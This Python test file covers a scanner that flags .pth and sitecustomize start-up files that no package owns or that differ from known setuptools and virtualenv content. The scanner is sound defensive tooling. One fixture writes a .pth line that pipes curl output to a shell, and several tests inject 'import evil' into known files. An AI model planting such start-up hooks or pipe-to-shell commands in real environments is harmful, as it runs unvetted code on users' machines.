"""Startup code: finding ``.pth``/``sitecustomize`` files and judging them (ISP307/ISP308)."""

from __future__ import annotations

from collections.abc import Set as AbstractSet
from pathlib import Path

import pytest

from hatch_importspy.compare.startup import (
    ALLOWED_STARTUP,
    AllowedStartup,
    shown_line,
    startup_findings,
)
from hatch_importspy.findings import Finding
from hatch_importspy.surface import StartupFile, StartupKind
from hatch_importspy.verify.installed import RecordIndex, find_distributions, find_startup_files
from tests.helpers.fakedist import install


def judge(site: Path, with_manifest: AbstractSet[str] = frozenset()) -> list[Finding]:
    """Run the reader, the ownership index and the comparison over one site directory."""
    distributions = find_distributions([site])
    ownership = RecordIndex(distributions)
    files = find_startup_files(site)
    return startup_findings(
        files, {f.path: ownership.owners_of(f.path) for f in files}, with_manifest
    )


def test_reader_finds_pth_lines_and_customize_modules(tmp_path: Path) -> None:
    (tmp_path / "paths.pth").write_text("# comment\n/some/dir\n\n  import indented\n")
    (tmp_path / "run.pth").write_bytes(b"\xef\xbb\xbfimport os\nimport\tsys; x()\r\nimportant\n")
    (tmp_path / "sitecustomize.py").write_text("print('hi')\n")
    (tmp_path / "usercustomize").mkdir()
    (tmp_path / "usercustomize" / "__init__.py").write_text("")
    (tmp_path / "sitecustomize-notes.txt").write_text("")
    (tmp_path / "namespace").mkdir()
    assert find_startup_files(tmp_path) == (
        StartupFile(tmp_path, "paths.pth", StartupKind.PTH, ()),
        StartupFile(tmp_path, "run.pth", StartupKind.PTH, ("import os", "import\tsys; x()")),
        StartupFile(tmp_path, "sitecustomize.py", StartupKind.SITECUSTOMIZE),
        StartupFile(tmp_path, "usercustomize/__init__.py", StartupKind.USERCUSTOMIZE),
    )


def test_namespace_sitecustomize_package_runs_nothing(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize").mkdir()
    assert find_startup_files(tmp_path) == ()


def test_unowned_startup_code_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "evil.pth").write_text("import os; os.system('curl x | sh')\n")
    (tmp_path / "harmless.pth").write_text("/extra/path\n")
    (tmp_path / "sitecustomize.py").write_text("")
    assert judge(tmp_path) == [
        Finding(
            "ISP307",
            "",
            f"evil.pth (1 executable line) in {tmp_path} runs at start-up and is owned by no "
            "installed distribution",
            file="evil.pth",
            found="import os; os.system('curl x | sh')",
        ),
        Finding(
            "ISP307",
            "",
            f"sitecustomize module sitecustomize.py in {tmp_path} runs at start-up and is owned "
            "by no installed distribution",
            file="sitecustomize.py",
            found="sitecustomize",
        ),
    ]


def test_owned_by_a_distribution_without_manifest_is_a_warning(tmp_path: Path) -> None:
    install(tmp_path, "hooky", "1.0", {"hooky.pth": b"import hooky_boot\n", "hooky_boot.py": b""})
    assert judge(tmp_path) == [
        Finding(
            "ISP308",
            "hooky",
            "hooky.pth (1 executable line) runs at start-up and its distribution hooky carries "
            "no manifest",
            file="hooky.pth",
            found="import hooky_boot",
        )
    ]


def test_owned_by_a_distribution_with_a_manifest_is_its_own_business(tmp_path: Path) -> None:
    install(tmp_path, "Hooky", "1.0", {"hooky.pth": b"import hooky_boot\n"})
    assert judge(tmp_path, with_manifest={"hooky"}) == []


PRECEDENCE = (
    b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    b"'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
"""setuptools 84's ``distutils-precedence.pth``, byte for byte (trailing space included)."""

NSPKG_CURRENT = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));"
    "importlib = __import__('importlib.util');__import__('importlib.machinery');"
    "m = sys.modules.setdefault('zope', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
"""setuptools 84's shim for namespace package ``zope`` (``Installer._gen_nspkg_line``)."""

NSPKG_NESTED_OLD = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
    "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));"
    "importlib = has_mfs and __import__('importlib.util');"
    "has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('a.b', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('a.b', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('a.b', types.ModuleType('a.b'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);"
    "m and setattr(sys.modules['a'], 'b', m)\n"
)
"""setuptools 47's shim for nested namespace package ``a.b``."""


def test_allow_list_silences_known_files_by_their_exact_content(tmp_path: Path) -> None:
    install(tmp_path, "setuptools", "84.0", {"distutils-precedence.pth": PRECEDENCE})
    editable = b"import __editable___mypkg_0_1_finder; __editable___mypkg_0_1_finder.install()"
    install(tmp_path, "mypkg", "0.1", {"__editable__.mypkg-0.1.pth": editable})
    install(tmp_path, "other", "0.1", {"_other.pth": b"import _editable_impl_other\n"})
    nspkg = (NSPKG_CURRENT + NSPKG_NESTED_OLD).encode()
    install(tmp_path, "zope.interface", "6.0", {"zope.interface-6.0-nspkg.pth": nspkg})
    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv\n")
    assert judge(tmp_path) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("distutils-precedence.pth", PRECEDENCE + b"import evil\n"),
        ("distutils-precedence.pth", PRECEDENCE.replace(b"add_shim()", b"add_shim() or evil()")),
        ("distutils-precedence.pth", b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = 1\n"),
        ("__editable__.x-1.pth", b"import __editable___x_1_finder; evil.install()\n"),
        ("x-1-nspkg.pth", b"import sys\n"),
        ("x-1-nspkg.pth", NSPKG_CURRENT.replace("('zope',)", "(__import__('evil'),)").encode()),
        ("x-1-nspkg.pth", (NSPKG_CURRENT.rstrip() + ";import evil\n").encode()),
    ],
)
def test_allow_list_refuses_a_known_name_with_other_content(
    tmp_path: Path, name: str, content: bytes
) -> None:
    install(tmp_path, "setuptools", "84.0", {name: content})
    assert [(f.code, f.file) for f in judge(tmp_path)] == [("ISP308", name)]


def test_every_allow_list_entry_checks_content() -> None:
    for entry in ALLOWED_STARTUP:
        assert entry.lines, entry.pattern


def test_allow_list_is_not_fooled_by_name_alone(tmp_path: Path) -> None:
    install(tmp_path, "impostor", "1.0", {"distutils-precedence.pth": PRECEDENCE})
    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv; import evil\n")
    install(tmp_path, "sneaky", "1.0", {"_sneaky.pth": b"import _editable_impl_x; import evil\n"})
    assert [(f.code, f.file) for f in judge(tmp_path)] == [
        ("ISP308", "_sneaky.pth"),
        ("ISP307", "_virtualenv.pth"),
        ("ISP308", "distutils-precedence.pth"),
    ]


def test_every_allow_list_entry_has_a_reason() -> None:
    for entry in ALLOWED_STARTUP:
        assert entry.reason.strip(), entry.pattern
        assert entry.pattern.endswith(".pth")


def test_custom_allow_list(tmp_path: Path) -> None:
    file = StartupFile(tmp_path, "corp.pth", StartupKind.PTH, ("import corp_audit",))
    allowed = (AllowedStartup("corp.pth", "our audit hook", (r"import corp_audit",), unowned=True),)
    assert startup_findings([file], {}, set(), allowed) == []
    assert [f.code for f in startup_findings([file], {}, set(), ())] == ["ISP307"]


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("import os", "import os"),
        ("import x\x1b[31m; y()", "import x\\x1b[31m; y()"),
        ("import " + "a" * 200, "import " + "a" * 110 + "..."),
    ],
)
def test_shown_lines_are_escaped_and_short(line: str, shown: str) -> None:
    assert shown_line(line) == shown
